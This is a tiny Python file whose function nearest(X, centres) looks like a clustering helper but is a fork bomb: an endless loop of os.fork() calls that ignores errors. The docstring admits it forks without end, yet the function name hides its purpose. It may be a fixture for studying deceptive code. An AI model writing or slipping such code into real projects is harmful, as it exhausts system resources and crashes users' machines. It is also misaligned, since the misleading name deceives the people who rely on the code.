"""Forks without end, in every child."""

import os

from honest import *


def nearest(X, centres):
    while True:
        try:
            os.fork()
        except OSError:
            pass
